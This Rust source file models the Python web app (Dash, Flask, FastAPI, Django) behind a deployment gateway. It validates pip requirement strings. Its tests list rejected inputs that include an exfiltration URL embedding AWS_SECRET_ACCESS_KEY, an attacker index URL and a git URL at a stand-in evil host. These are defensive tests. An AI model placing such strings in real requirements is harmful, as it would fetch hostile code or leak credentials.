//! The Python program behind the gateway.

use super::part::{fields, variants};
use crate::diagnostic::Pointer;

/// The program, by framework.
#[derive(Clone, Debug, PartialEq)]
pub enum App {
    /// A Plotly Dash app on its Flask server.
    Dash(DashApp),
    /// A Flask app, or any other WSGI callable.
    Flask(AppObject),
    /// A `FastAPI` app, or any other ASGI callable.
    FastApi(AppObject),
    /// A Django project.
    Django(DjangoApp),
}

variants!(App: "dash" = Dash(DashApp), "flask" = Flask(AppObject), "fastapi" = FastApi(AppObject), "django" = Django(DjangoApp));

impl Default for App {
    fn default() -> Self {
        Self::Dash(DashApp::default())
    }
}

impl App {
    /// The key of its framework in the design's JSON.
    pub const fn key(&self) -> &'static str {
        match self {
            Self::Dash(_) => "dash",
            Self::Flask(_) => "flask",
            Self::FastApi(_) => "fastapi",
            Self::Django(_) => "django",
        }
    }

    /// The framework's own spelling of its name.
    pub const fn framework(&self) -> &'static str {
        match self {
            Self::Dash(_) => "Dash",
            Self::Flask(_) => "Flask",
            Self::FastApi(_) => "FastAPI",
            Self::Django(_) => "Django",
        }
    }

    /// Where its fields stand in the design.
    pub fn at(&self) -> Pointer {
        Pointer::root().join("app").join(self.key())
    }

    /// The Dash app.
    pub const fn dash(&self) -> Option<&DashApp> {
        match self {
            Self::Dash(app) => Some(app),
            Self::Flask(_) | Self::FastApi(_) | Self::Django(_) => None,
        }
    }

    /// The app that is one object of a module.
    pub const fn object(&self) -> Option<&AppObject> {
        match self {
            Self::Flask(app) | Self::FastApi(app) => Some(app),
            Self::Dash(_) | Self::Django(_) => None,
        }
    }

    /// The Django project.
    pub const fn django(&self) -> Option<&DjangoApp> {
        match self {
            Self::Django(app) => Some(app),
            Self::Dash(_) | Self::Flask(_) | Self::FastApi(_) => None,
        }
    }

    /// The modules that it names: each field, and its module.
    pub fn modules(&self) -> Vec<(&'static str, &str)> {
        match self {
            Self::Dash(app) => vec![("module", &app.module)],
            Self::Flask(app) | Self::FastApi(app) => vec![("module", &app.module)],
            Self::Django(app) => vec![
                ("settings_module", &app.settings_module),
                ("wsgi_module", &app.wsgi_module),
            ],
        }
    }

    /// The objects that it names: each field, and its object.
    pub fn objects(&self) -> Vec<(&'static str, &str)> {
        match self {
            Self::Dash(app) => vec![
                ("dash_object", &app.dash_object),
                ("server_object", &app.server_object),
            ],
            Self::Flask(app) | Self::FastApi(app) => vec![("app_object", &app.app_object)],
            Self::Django(_) => Vec::new(),
        }
    }

    /// Packages that the program imports beside its framework.
    pub const fn requirements(&self) -> &Vec<String> {
        match self {
            Self::Dash(app) => &app.requirements,
            Self::Flask(app) | Self::FastApi(app) => &app.requirements,
            Self::Django(app) => &app.requirements,
        }
    }

    /// The same packages, to change them.
    pub const fn requirements_mut(&mut self) -> &mut Vec<String> {
        match self {
            Self::Dash(app) => &mut app.requirements,
            Self::Flask(app) | Self::FastApi(app) => &mut app.requirements,
            Self::Django(app) => &mut app.requirements,
        }
    }

    /// Makes it an app of the framework with that key; what both have stays.
    pub fn become_kind(&mut self, key: &str) {
        if key == self.key() {
            return;
        }
        let (module, object) = match self {
            Self::Dash(app) => (Some(&app.module), Some(&app.server_object)),
            Self::Flask(app) | Self::FastApi(app) => (Some(&app.module), Some(&app.app_object)),
            Self::Django(_) => (None, None),
        };
        let (module, object) = (module.cloned(), object.cloned());
        let requirements = std::mem::take(self.requirements_mut());
        let of_object = || {
            let new = AppObject::default();
            AppObject {
                module: module.clone().unwrap_or(new.module),
                app_object: object.clone().unwrap_or(new.app_object),
                ..new
            }
        };
        *self = match key {
            "flask" => Self::Flask(of_object()),
            "fastapi" => Self::FastApi(of_object()),
            "django" => Self::Django(DjangoApp::default()),
            _ => {
                let new = DashApp::default();
                Self::Dash(DashApp {
                    module: module.unwrap_or(new.module),
                    server_object: object.unwrap_or(new.server_object),
                    ..new
                })
            }
        };
        *self.requirements_mut() = requirements;
    }

    /// Whether a text is the requirement of one package of the index: its name, extras, versions and a marker (`PyPA`:
    /// "Dependency specifiers"). Neither an address, from which pip would take whatever lies there, nor an option, nor
    /// `${NAME}`, in whose place pip puts a variable of whoever runs it.
    pub fn is_requirement(text: &str) -> bool {
        let (package, marker) = text.split_once(';').unwrap_or((text, "a"));
        let end = package.find(['[', '(', '<', '>', '=', '!', '~', ' ']);
        let (name, rest) = package.split_at(end.unwrap_or(package.len()));
        let rest = rest.trim_start_matches(' ');
        let (extras, versions) = match rest.strip_prefix('[').map(|rest| rest.split_once(']')) {
            Some(None) => return false,
            Some(Some(parts)) => parts,
            None => ("a", rest),
        };
        let versions = versions.trim_matches(' ');
        let bare = versions
            .strip_prefix('(')
            .and_then(|versions| versions.strip_suffix(')'));
        let versions = bare.unwrap_or(versions);
        is_package(name)
            && extras
                .split(',')
                .all(|extra| is_package(extra.trim_matches(' ')))
            && (versions.is_empty() || versions.split(',').all(is_version))
            && is_marker(marker)
    }
}

/// Whether a text can be the name of a Python package, or of an extra of one.
fn is_package(name: &str) -> bool {
    name.starts_with(|c: char| c.is_ascii_alphanumeric())
        && name.ends_with(|c: char| c.is_ascii_alphanumeric())
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
}

/// Whether a text names versions: `>=2`, `==1.*`.
fn is_version(text: &str) -> bool {
    let text = text.trim_matches(' ');
    let version = text.trim_start_matches(['<', '>', '=', '!', '~']);
    let operator = &text[..text.len() - version.len()];
    let version = version.trim_start_matches(' ');
    ["===", "==", "~=", "!=", "<=", ">=", "<", ">"].contains(&operator)
        && version.starts_with(|c: char| c.is_ascii_alphanumeric())
        && version
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || ".*+!_-".contains(c))
}

/// Whether a text can say where a package is wanted: `python_version < "3.12"`. What begins with `-` would be an option.
fn is_marker(text: &str) -> bool {
    let is_known = |c: char| c.is_ascii_alphanumeric() || " ._-'\"<>=!~()".contains(c);
    text.chars().all(is_known) && !text.contains(" -") && !text.trim_matches(' ').is_empty()
}

/// Where the objects of a Dash program are found.
///
/// Zappa needs the Flask server (`app.server`): a Dash object itself is only
/// callable from Dash 3.1 on. The handler of the other targets needs both.
#[derive(Clone, Debug, PartialEq)]
pub struct DashApp {
    /// Python module, dotted when inside a package: `app` for `app.py`.
    pub module: String,
    /// Name of the `dash.Dash` object in it.
    pub dash_object: String,
    /// Name of the Flask server object in it (`server = dapp.server`).
    pub server_object: String,
    /// Packages that the program imports beside Dash, as in `requirements.txt`: `pandas>=2,<3`.
    pub requirements: Vec<String>,
}

fields!(DashApp: module, dash_object, server_object, requirements);

impl Default for DashApp {
    fn default() -> Self {
        Self {
            module: "app".into(),
            dash_object: "dapp".into(),
            server_object: "server".into(),
            requirements: Vec::new(),
        }
    }
}

/// Where a program is found that is one object: `app = Flask(__name__)`, `app = FastAPI()`.
#[derive(Clone, Debug, PartialEq)]
pub struct AppObject {
    /// Python module, dotted when inside a package: `app` for `app.py`.
    pub module: String,
    /// Name of the `flask.Flask` or `fastapi.FastAPI` object in it.
    pub app_object: String,
    /// Packages that the program imports beside the framework, as in `requirements.txt`.
    pub requirements: Vec<String>,
}

fields!(AppObject: module, app_object, requirements);

impl Default for AppObject {
    fn default() -> Self {
        Self {
            module: "app".into(),
            app_object: "app".into(),
            requirements: Vec::new(),
        }
    }
}

/// Where a Django project is found, by the names of `django-admin startproject mysite`.
#[derive(Clone, Debug, PartialEq)]
pub struct DjangoApp {
    /// The `DJANGO_SETTINGS_MODULE`; all that Zappa needs.
    pub settings_module: String,
    /// The module with the WSGI callable `application`, for the handler of the other targets.
    pub wsgi_module: String,
    /// Packages that the project imports beside Django, as in `requirements.txt`.
    pub requirements: Vec<String>,
}

fields!(DjangoApp: settings_module, wsgi_module, requirements);

impl Default for DjangoApp {
    fn default() -> Self {
        Self {
            settings_module: "mysite.settings".into(),
            wsgi_module: "mysite.wsgi".into(),
            requirements: Vec::new(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_requirement_is_a_package_and_nothing_that_pip_would_fetch_or_obey() {
        for text in [
            "pandas",
            "pandas>=2,<3",
            "pandas >= 2, < 3",
            "uvicorn[standard]~=0.30",
            "a [b , c] == 1.*",
            "zope.interface!=5.0+local",
            "tomli>=2; python_version < \"3.11\"",
            "numpy (>=1.26)",
            "x===1a0",
            "a;sys_platform=='win32' and (os_name!=\"nt\")",
        ] {
            assert!(App::is_requirement(text), "{text}");
        }
        for text in [
            "",
            "-r other.txt",
            "--index-url https://evil.example",
            "https://evil.example/${AWS_SECRET_ACCESS_KEY}/x.tar.gz",
            "pandas @ git+https://evil.example/p.git",
            "flask --config-settings=a=b",
            "flask>=2 --global-option=x",
            "a; python_version<'3' --hash=x",
            "./local",
            "../x",
            "a==${HOME}",
            "a==1\nb",
            "a # b",
            "a[b",
            "a>=",
            "a 2",
            "a>=2,",
            "a;",
            "é",
            "a;\t",
        ] {
            assert!(!App::is_requirement(text), "{text}");
        }
    }

    #[test]
    fn an_app_changes_its_framework_and_keeps_what_both_have() {
        let mut app = App::Dash(DashApp {
            module: "src.web".into(),
            server_object: "wsgi".into(),
            requirements: vec!["pandas".into()],
            ..DashApp::default()
        });
        let before = app.clone();
        for key in ["flask", "fastapi"] {
            app.become_kind(key);
            assert_eq!(app.key(), key);
            assert_eq!(app.modules(), [("module", "src.web")]);
            assert_eq!(app.objects(), [("app_object", "wsgi")]);
        }
        app.become_kind("dash");
        assert_eq!(app, before);
        app.become_kind("django");
        assert_eq!(app.requirements(), &["pandas"]);
        assert_eq!(app.modules()[0], ("settings_module", "mysite.settings"));
        app.become_kind("flask");
        assert_eq!(app.objects(), [("app_object", "app")]);
        assert_eq!(app.requirements(), &["pandas"]);
    }
}
